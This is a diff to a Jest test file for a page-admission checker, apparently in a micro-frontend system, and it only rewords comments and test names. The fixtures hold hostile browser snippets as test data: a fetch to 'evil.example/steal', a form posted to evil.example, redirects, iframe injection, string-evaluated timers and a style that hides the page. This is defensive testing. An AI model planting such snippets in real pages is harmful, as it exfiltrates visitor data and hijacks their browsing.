@@ -13,7 +13,7 @@ jest.setTimeout(600_000);
 
 const shell = useShell();
 
-/** What a page's code does once it is alive, and what is said of it. */
+/** Code that a page runs after hydration, and the expected reason. */
 const IN_EFFECT: Readonly<Record<string, readonly [code: string, reason: RegExp]>> = {
   // Other hosts.
   fetch: ["fetch('https://evil.example/steal').catch(() => 0)", /calls fetch to evil\.example/],
@@ -42,7 +42,7 @@ const IN_EFFECT: Readonly<Record<string, readonly [code: string, reason: RegExp]
     /sends a form to evil\.example/,
   ],
   frame: ["document.getElementById('own').append(document.createElement('iframe'))", /inserts a <iframe>/],
-  // Leaving the page, and asking the visitor.
+  // Leaving the page, and prompting the visitor.
   location: ["location.href = '/admin'", /leaves the page at load/],
   'location-assign': ["location.assign('https://evil.example/')", /leaves the page at load/],
   'location-reload': ['location.reload()', /leaves the page at load/],
@@ -51,7 +51,7 @@ const IN_EFFECT: Readonly<Record<string, readonly [code: string, reason: RegExp]
     /leaves the page at load/,
   ],
   alert: ["alert('You have won')", /calls alert at load/],
-  // Code and markup made of text.
+  // Code and markup created from text.
   'timer-of-text': ["setTimeout('self.gotcha = 1', 5)", /calls setTimeout with a string/],
   'interval-of-text': ["setInterval('self.gotcha = 1', 5)", /calls setInterval with a string/],
   'inner-html': ["document.getElementById('own').innerHTML = '<b>x</b>'", /sets innerHTML to a string/],
@@ -91,7 +91,7 @@ const IN_EFFECT: Readonly<Record<string, readonly [code: string, reason: RegExp]
     /changes <header>/,
   ],
 };
-/** The same by ways that have no place in the source. */
+/** The same in ways that have no source location. */
 const WITHOUT_PLACE: typeof IN_EFFECT = {
   'bound-fetch': [
     "Promise.resolve('https://evil.example/').then(fetch).catch(() => 0)",
@@ -106,7 +106,7 @@ const WITHOUT_PLACE: typeof IN_EFFECT = {
     /changes <header>/,
   ],
 };
-/** What its components draw in the browser alone. */
+/** Content that components render in the browser only. */
 const DRAWN: Readonly<Record<string, readonly [expression: string, reason: RegExp]>> = {
   'drawn-style': [
     "h(require('@emotion/react').Global, { styles: 'body{display:none}' })",
@@ -150,7 +150,7 @@ const pagesOf = (
     ([name, one]) => [`/blog/${name}`, make(typeof one === 'string' ? one : one[0])] as const,
   );
 
-/** Line by line, each to the same line of one source. */
+/** A source map from each line to the same line of one source. */
 const MAP = JSON.stringify({
   version: 3,
   sources: ['./src/page.tsx'],
@@ -158,7 +158,7 @@ const MAP = JSON.stringify({
   mappings: `AAAA${';AACA'.repeat(99)}`,
 });
 
-/** One admission of one release with a page for each case. */
+/** Admits one release with a page per case. */
 let failures: readonly RenderFailure[] = [];
 let withException: ComposeResult;
 beforeAll(async () => {
@@ -201,7 +201,7 @@ const saidOf = (name: string) =>
     .map(({ check, message }) => `${check}: ${message}`);
 
 describe('a page’s code', () => {
-  it.each(Object.entries(IN_EFFECT))('is refused for %s, with its line', (name, [, reason]) => {
+  it.each(Object.entries(IN_EFFECT))('is refused for %s, with its location', (name, [, reason]) => {
     expect(saidOf(name).join('\n')).toMatch(reason);
     expect(saidOf(name).find((text) => reason.test(text))).toMatch(/^behavior: /);
     if (!PLACELESS.has(name)) expect(saidOf(name).join('\n')).toMatch(/, at mfe-blog\/src\/page\.tsx:\d+:1/);
@@ -217,13 +217,13 @@ describe('a page’s code', () => {
 });
 
 describe('an exception of the operator', () => {
-  it('widens the policy of the page for the host that it names', () => {
+  it('adds the host that it names to the page’s policy', () => {
     const page = 'composition' in withException ? withException.composition.pages.get('/blog') : undefined;
 
     expect(page?.contentSecurityPolicy).toContain("connect-src 'self' status.example wss://status.example;");
   });
 
-  it('lets the release live, and is told with its reason', () => {
+  it('admits the release, and is logged with its reason', () => {
     expect('composition' in withException && [...withException.composition.pages.keys()]).toEqual(['/blog']);
     expect('excepted' in withException && withException.excepted).toEqual([
       expect.stringMatching(/^blog \/blog calls fetch to status\.example.*\(until June\)$/),
@@ -231,5 +231,5 @@ describe('an exception of the operator', () => {
   });
 });
 
-/** Seen by comparing, after the call. */
+/** Detected by comparing, after the call. */
 const PLACELESS = new Set(['frame', 'inline-script', 'rule']);
